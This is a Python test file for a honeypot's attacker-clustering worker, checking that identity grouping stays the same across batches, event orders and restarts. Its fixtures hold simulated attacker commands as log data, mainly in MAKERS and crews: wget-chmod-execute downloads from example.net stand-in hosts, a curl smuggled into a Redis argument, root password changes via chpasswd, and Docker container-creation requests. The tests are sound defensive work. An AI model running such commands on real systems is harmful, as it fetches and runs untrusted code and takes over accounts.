# SPDX-License-Identifier: MIT
"""The identities follow from the set of events and decisions: not from batches, order, restarts or repetition."""

from __future__ import annotations

import random
from collections import Counter
from collections.abc import Callable, Iterator
from typing import Any
from uuid import UUID

import pytest
from hypothesis import Phase, given, settings
from hypothesis import strategies as st
from sqlalchemy import Engine, select
from sqlalchemy.event import listen
from tests.at_scale import at_scale
from tests.decnet_workers.clusterer.scenes import (
    SECOND,
    START,
    Follower,
    command,
    event,
    file,
    hassh,
    in_memory,
    key,
    partition,
    password,
    stack,
)
from tests.examples import examples

from decnet_core.events.catalogue import HttpRequest, Payload, ServiceRequest
from decnet_core.events.envelope import Event
from decnet_models.database.engine import reading, writing
from decnet_models.events.queries import insert_events
from decnet_models.identities.tables import IDENTITIES, identity_attacker, identity_core
from decnet_workers.clusterer import worker
from decnet_workers.clusterer.kinds import KINDS
from decnet_workers.clusterer.reading import gathering

ATTACKERS = [f"192.0.2.{number}" for number in range(1, 15)] + ["2001:db8::1", "2001:db8::2", "2001:db8:1::1"]

MAKERS: list[Callable[[str], Payload]] = [
    key,
    hassh,
    stack,
    file,
    lambda name: command(f"wget http://{name}.example.net/a; chmod 777 a; ./a; run {name}"),
    lambda name: command(f"own-{name} --flag; second-{name}; third-{name}"),
    lambda name: password(f"user{name}", f"secret-{name}"),
    lambda name: HttpRequest(method="GET", target="/", user_agent=f"bot (+https://{name}.example.net/)"),
    lambda name: command(f"./run -u 4{name.upper() * 94}"),
    lambda name: command(f"echo 'root:vK3{name}Tq9xZ' | chpasswd"),
    lambda name: command(f"/bin/busybox KI{name.upper()}; wget http://{name}.example.net/b"),
    lambda name: HttpRequest(method="POST", target="/containers/create", body=f'{{"Image": "by{name}/run"}}'),
    lambda name: ServiceRequest(service="redis", action="SET", detail={"ARGS": f"x curl http://{name}.example.net/r"}),
]


@st.composite
def logs(draw: st.DrawFn) -> list[Event]:
    """Draw events of which many share something."""
    picks = draw(
        st.lists(
            st.tuples(
                st.sampled_from(ATTACKERS),
                st.sampled_from(MAKERS),
                st.sampled_from("abcdef"),
                st.integers(0, 200) | st.integers(0, 20_000_000),
            ),
            min_size=1,
            max_size=60,
        )
    )
    return [event(attacker, make(name), at) for attacker, make, name, at in picks]


Rows = list[tuple[Any, ...]]
State = tuple[dict[UUID, frozenset[str]], dict[str, str | None], Rows, Rows, Rows]
DATED = [kind.name for kind in KINDS.values() if kind.dated]


def state(engine: Engine) -> State:
    with reading(engine) as connection:
        c, f, g = identity_attacker.c, identity_core.c, IDENTITIES.group.c
        cores = {row.attacker: row.core for row in connection.execute(select(c.attacker, c.core))}
        weights = [
            tuple(row) for row in connection.execute(select(f.kind, f.digest, f.core, f.weight, f.magnitude, f.owner))
        ]
        sizes = select(g.id, g.members, g.first_seen, g.last_seen).where(g.members > 0)
        identities = [tuple(row) for row in connection.execute(sizes.order_by(g.id))]
        t = IDENTITIES.feature.c
        times = select(t.kind, t.digest, t.subjects, t.first_seen, t.last_seen).where(t.kind.in_(DATED))
        features = [tuple(row) for row in connection.execute(times.order_by(t.kind, t.digest))]
    return partition(engine), cores, sorted(weights), identities, features


@settings(max_examples=examples(25), deadline=None, phases=[phase for phase in Phase if phase is not Phase.shrink])
@given(data=st.data(), log=logs())
def test_batches_order_and_repetition_change_nothing(data: st.DataObject, log: list[Event]) -> None:
    with in_memory() as whole, in_memory() as parts:
        Follower(whole).run(log)
        shuffled = data.draw(st.permutations(log))
        follower = Follower(parts, data.draw(st.integers(1, 7)))
        cuts = sorted(data.draw(st.lists(st.integers(0, len(log)), max_size=5)))
        for start, end in zip([0, *cuts], [*cuts, len(log)], strict=True):
            follower.run(shuffled[start:end])
            if data.draw(st.booleans()):
                follower = Follower(parts)
        assert state(parts) == state(whole)


DAY = 86_400


def crews(draw: random.Random) -> Iterator[Event]:
    """Yield events of about 70 attackers: so rules that begin at 16, 32 or 64 of them are met, and those about days."""
    for crew, (size, begin, width) in enumerate(((20, 0, 30), (35, 1, 3), (18, 5, 400), (5, 300, 1))):
        for number in range(size):
            attacker = f"198.51.{crew}.{draw.randrange(250)}"
            at = DAY * (begin + draw.randrange(width))
            shown: list[Payload] = [command(f"wget http://kit{crew}.example.net/x")] if number < size - 2 else []
            shown += [password(f"user{crew}{one}", f"secret-{crew}{one}") for one in draw.sample(range(6), 5)]
            shown += [password(f"user{one}", f"of-{crew}-{one}-long") for one in draw.sample(range(24), 7)]
            shown += [password(f"list{one}", "listed") for one in draw.sample(range(6), draw.choice([0, 5]))]
            shown += [command(f"do{crew}{'abcdefghijklmn'[one]}x --now") for one in range(draw.choice([0, 4, 14]))]
            shown += [key(f"own {crew}{draw.randrange(6)}") for _ in range(draw.choice([0, 1]))]
            shown += [command(f"./run -u 4{'ABCDE'[draw.randrange(5)] * 94}") for _ in range(draw.choice([0, 0, 1]))]
            shown += [one for one in (hassh(f"tool{crew % 2}"), file(f"{crew % 2}" * 64)) if draw.random() < 0.5]
            for payload in shown:
                yield event(attacker, payload, at)


def people(draw: random.Random) -> Iterator[Event]:
    """Yield events of pairs of people with a key each; a third address shows what both have besides."""
    for pair in range(6):
        besides = [file(f"{pair}f" * 32), command(f"echo 'root:vK3{pair}Tq9xZ' | chpasswd")]
        for person, other in enumerate(besides):
            began = draw.randrange(30)
            for number in range(2):
                at = DAY * (began + draw.randrange(20))
                for payload in (key(f"{pair} {person}"), hassh(f"tool {pair} {person}"), other)[: 2 + number]:
                    yield event(f"198.51.{pair}.{10 * person + number}", payload, at)
        for payload in besides:
            yield event(f"203.0.113.{pair}", payload, DAY * 25)


@pytest.mark.parametrize("seed", range(3))
def test_nor_does_whose_the_parts_of_a_core_are(seed: int) -> None:
    draw = random.Random(seed)
    log = list(people(draw))
    with in_memory() as whole, in_memory() as parts:
        Follower(whole).run(log)
        draw.shuffle(log)
        follower = Follower(parts, batch=7)
        for start in range(0, len(log), 11):
            follower.run(log[start : start + 11])
        assert state(parts) == state(whole)
        assert {row[5] for row in state(whole)[2]} > {""}


@pytest.mark.parametrize("seed", at_scale(range(3), always=1))
@pytest.mark.parametrize("in_time", [True, False], ids=["in-time", "shuffled"])
def test_nor_do_they_with_many_attackers_over_many_days(seed: int, in_time: bool) -> None:
    draw = random.Random(seed)
    log = list(crews(draw))
    with in_memory() as whole, in_memory() as parts:
        Follower(whole).run(log)
        draw.shuffle(log)
        if in_time:
            log.sort(key=lambda one: one.ts)
        follower = Follower(parts, batch=60)
        while log:
            part, log = log[:100], log[100:]
            follower.run(part)
            if draw.random() < 0.3:
                follower = Follower(parts, batch=60)
        assert state(parts) == state(whole)


@pytest.mark.parametrize("seed", range(2))
def test_nor_does_what_is_computed_at_once(seed: int, monkeypatch: pytest.MonkeyPatch) -> None:
    log = list(crews(random.Random(seed)))
    with in_memory() as whole, in_memory() as parts:
        Follower(whole).run(log)
        for name, number in {"ROUND": 12, "FIRST_ROUND": 12, "LEAST_ROUND": 4, "AIM": 16}.items():
            monkeypatch.setattr(worker, name, number)
        monkeypatch.setattr(gathering, "_STEP", 2)
        follower = Follower(parts)
        for start in range(0, len(log), 200):
            follower.run(log[start : start + 200])
        assert state(parts) == state(whole)


def test_a_set_weighs_less_once_twice_as_many_show_its_members_though_these_weigh_the_same() -> None:
    crowd = [event(f"10.0.{one >> 8}.{one & 255}", hassh(f"{one:032x}"), DAY * (one % 90)) for one in range(150)]
    lines = [command(f"{name} --of {name}-own -x") for name in ("fetch", "place", "start", "hide", "tell")]
    users = [event(who, line, 40 * DAY) for who in ("198.51.100.1", "198.51.100.2") for line in lines]
    others = [event(f"203.0.113.{place}{one}", line, 40 * DAY) for place, line in enumerate(lines) for one in (1, 2)]
    with in_memory() as whole, in_memory() as parts:
        Follower(whole).run([*crowd, *users, *others])
        follower = Follower(parts).run([*crowd, *users])
        before = state(parts)[2]
        follower.run(others)
        assert state(parts) == state(whole)
        assert {row[3] for row in before if row[0] == "command_set"} == {20.0}
        assert {row[3] for row in state(parts)[2] if row[0] == "command_set"} == {18.0}
        assert {row[3] for row in state(parts)[2] if row[0] == "command"} == {8.3}


@pytest.mark.parametrize("attackers", [2, 20])
def test_times_of_credentials_that_are_not_kept_are_taken_away_in_a_few_statements(attackers: int) -> None:
    """Eight are kept of an attacker; others, at a later time, show the same, eight each."""
    visits = [
        (one, number, password("root", f"{one}-of-many-{number}")) for one in range(attackers) for number in range(24)
    ]
    first = [event(f"198.51.100.{one}", tried, DAY) for one, number, tried in visits if number % 2]
    first += [event(f"203.0.{one}.{number % 3}", tried, 2 * DAY) for one, number, tried in visits]
    asked: list[str] = []
    with in_memory() as database:
        Follower(database).run(first)
        with writing(database) as connection:
            insert_events(
                connection, [event(f"198.51.100.{one}", tried) for one, number, tried in visits if not number % 2]
            )
        listen(database, "before_cursor_execute", lambda *told: asked.append(told[2]))
        assert Follower(database).followed()
        times = [row[2:] for row in state(database)[4] if row[0] == "credential"]
    later = START + 2 * DAY * SECOND
    assert Counter(subjects for subjects, _, _ in times) == {2: 8 * attackers, 1: 16 * attackers}
    assert {(first, last) for subjects, first, last in times if subjects == 1} == {(later, later)}
    assert len([text for text in asked if "identity_" in text]) < 40
